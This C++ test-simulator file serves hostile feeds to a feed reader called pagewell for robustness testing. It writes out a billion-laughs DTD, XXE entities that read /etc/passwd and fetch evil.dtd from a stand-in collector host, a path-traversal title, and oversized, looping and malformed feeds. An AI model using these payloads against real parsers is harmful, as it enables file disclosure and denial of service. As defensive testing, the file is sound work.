#include "sim/HostileFeeds.h"

#include "sim/FeedBlog.h"
#include "sim/WordPressService.h"

namespace pw::sim {

namespace {

constexpr size_t kOversizedBytes = 80u << 20;

Response Rss(std::string xml) {
    return Response::Text(std::move(xml), "application/rss+xml; charset=utf-8");
}

std::string HomeNaming(const std::string& feed, const char* type) {
    return "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>home</title>\n"
           "<link rel=\"alternate\" type=\"" +
           std::string(type) + "\" href=\"" + feed + "\"></head><body>home</body></html>\n";
}

std::string Item(const std::string& title, const std::string& link, const std::string& text) {
    return "<item><title>" + title + "</title><link>" + link +
           "</link><pubDate>Fri, 28 Dec 2012 "
           "21:30:00 +0800</pubDate><description>" +
           text + "</description></item>\n";
}

std::string ArticlePage(const std::string& text) {
    return "<html><head><meta charset=\"utf-8\"><title>post</title></head><body><article><p>" +
           text + "</p></article></body></html>\n";
}

void AddLaughs(ServiceSimulator& simulator, const std::string& host) {
    std::string dtd = "<!DOCTYPE rss [\n<!ENTITY lol \"lol\">\n";
    for (int level = 1; level <= 9; ++level) {
        dtd += "<!ENTITY lol" + std::to_string(level) + " \"";
        const std::string previous =
            level == 1 ? "&lol;" : "&lol" + std::to_string(level - 1) + ";";
        for (int i = 0; i < 10; ++i) dtd += previous;
        dtd += "\">\n";
    }
    dtd += "]>\n";
    simulator.Route(host, "/", Response::Html(HomeNaming("/feed.xml", "application/rss+xml")));
    simulator.Route(
        host, "/feed.xml",
        Rss("<?xml version=\"1.0\"?>\n" + dtd +
            "<rss version=\"2.0\"><channel><title>&lol9;</title><link>http://" + host +
            "/</link>\n" + Item("&lol9;", "http://" + host + "/p/1/", "&lol9;") +
            Item("平常的一篇", "http://" + host + "/p/2/", "平常的摘要") + "</channel></rss>\n"));
    for (const char* path : {"/p/1/", "/p/2/"}) {
        simulator.Route(host, path, Response::Html(ArticlePage("正文在这里。")));
    }
}

void AddExternalEntities(ServiceSimulator& simulator, const std::string& host) {
    const std::string collector = "http://" + std::string(kCollectorHost);
    simulator.Route(host, "/", Response::Html(HomeNaming("/feed.xml", "application/rss+xml")));
    simulator.Route(
        host, "/feed.xml",
        Rss("<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n<!ENTITY passwd SYSTEM "
            "\"file:///etc/passwd\">\n<!ENTITY remote SYSTEM \"" +
            collector + "/entity\">\n<!ENTITY % dtd SYSTEM \"" + collector +
            "/evil.dtd\">\n%dtd;\n]>\n"
            "<rss version=\"2.0\"><channel><title>外部实体 &passwd;</title><link>http://" +
            host + "/</link>\n" +
            Item("收到 &passwd;", "http://" + host + "/p/1/", "&passwd; &remote;") +
            Item("第二篇 &remote;", "http://" + host + "/p/2/", "&remote;") +
            "</channel></rss>\n"));
    for (const char* path : {"/p/1/", "/p/2/"}) {
        simulator.Route(host, path, Response::Html(ArticlePage("正文在这里。")));
    }
    // Answers as an attacker's server would, so a reader that asks gets something.
    simulator.RouteHost(kCollectorHost, [](const Request&) {
        return Response::Text("<!ENTITY leak \"leaked\">", "application/xml-dtd");
    });
}

void AddOversized(ServiceSimulator& simulator, const std::string& host) {
    // Built when asked, so a simulator that nobody asks keeps no 80 MB.
    simulator.Route(host, "/feed.xml", [host](const Request&) {
        std::string xml =
            "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>太大的"
            "订阅</title><link>http://" +
            host + "/</link>\n";
        const std::string filler(900, 'x');
        for (long n = 1; xml.size() < kOversizedBytes; ++n) {
            xml += Item("第" + std::to_string(n) + "篇",
                        "http://" + host + "/p/" + std::to_string(n) + "/", filler);
        }
        return Rss(xml + "</channel></rss>\n");
    });
}

void AddLoop(ServiceSimulator& simulator, const std::string& host) {
    const auto entry = [&](const std::string& id, const std::string& title) {
        return "<entry><id>tag:" + host + ",2012:" + id + "</id><title>" + title +
               "</title><link rel=\"alternate\" href=\"http://" + host + "/p/" + id +
               "/\"/><updated>2012-12-28T21:30:00+08:00</updated><content type=\"html\">&lt;p&gt;"
               "正文 " +
               id + "&lt;/p&gt;</content></entry>\n";
    };
    const std::string head =
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\">"
        "<title>绕圈的订阅</title><id>tag:" +
        host +
        ",2012:feed</id>"
        "<updated>2012-12-28T21:30:00+08:00</updated><author><name>x</name></author>\n";
    const auto atom = [](std::string xml) {
        return Response::Text(std::move(xml), "application/atom+xml");
    };
    simulator.Route(host, "/", Response::Html(HomeNaming("/atom.xml", "application/atom+xml")));
    simulator.Route(host, "/atom.xml",
                    atom(head + "<link rel=\"next\" href=\"http://" + host +
                         "/atom.xml?page=2\"/>\n" + entry("1", "第一篇") +
                         entry("2", "../../../../../../tmp/pagewell-escape") + "</feed>\n"));
    simulator.Route(host, "/atom.xml?page=2",
                    atom(head + "<link rel=\"next\" href=\"http://" + host +
                         "/atom.xml\"/>\n<link rel=\"prev-archive\" href=\"/atom.xml?page=2\"/>\n" +
                         entry("3", "第三篇") + entry("1", "第一篇") + "</feed>\n"));
}

void AddBrokenJson(ServiceSimulator& simulator, const std::string& host) {
    const std::string api = "http://" + host + "/wp-json/";
    simulator.RouteHost(host, [api](const Request& request) {
        Response response;
        if (request.path == "/" && request.query.empty()) {
            response = Response::Html("<html><head><link rel=\"https://api.w.org/\" href=\"" + api +
                                      "\" /></head><body>home</body></html>");
            response.headers.emplace_back("Link", "<" + api + ">; rel=\"https://api.w.org/\"");
            return response;
        }
        if (request.path == "/wp-json/wp/v2/categories") {
            const size_t depth = 200000;
            response = Response::Text(std::string(depth, '[') + std::string(depth, ']'),
                                      "application/json; charset=UTF-8");
        } else if (request.path.rfind("/wp-json", 0) == 0) {
            response =
                Response::Text("[{\"id\":7,\"date\":\"2012-12-28T21:30:00\",\"link\":\"http://" +
                                   request.host + "/?p=7\",\"title\":{\"rendered\":\"\\ud800 半截",
                               "application/json; charset=UTF-8");
        } else {
            return Response::NotFound();
        }
        response.headers.emplace_back("X-WP-Total", "1");
        response.headers.emplace_back("X-WP-TotalPages", "1");
        return response;
    });
}

}  // namespace

std::vector<HostileFeed> AddHostileFeeds(ServiceSimulator& simulator) {
    AddLaughs(simulator, "laughs.pagewell.test");
    AddExternalEntities(simulator, "xxe.pagewell.test");
    AddOversized(simulator, "huge.pagewell.test");
    AddLoop(simulator, "loop.pagewell.test");
    FeedBlogShape shape;
    shape.host = "endlesswp.pagewell.test";
    shape.posts = 4;
    shape.pictureEvery = 0;
    AddWordPressBlog(simulator, MakeFeedBlog(shape), {.claimedPages = 10000000});
    AddBrokenJson(simulator, "badjson.pagewell.test");
    return {
        {"BillionLaughs", "http://laughs.pagewell.test/"},
        {"ExternalEntities", "http://xxe.pagewell.test/"},
        {"OversizedFeed", "http://huge.pagewell.test/feed.xml"},
        {"LoopingPages", "http://loop.pagewell.test/"},
        {"EndlessWordPress", "http://endlesswp.pagewell.test/"},
        {"BrokenJson", "http://badjson.pagewell.test/"},
    };
}

}  // namespace pw::sim
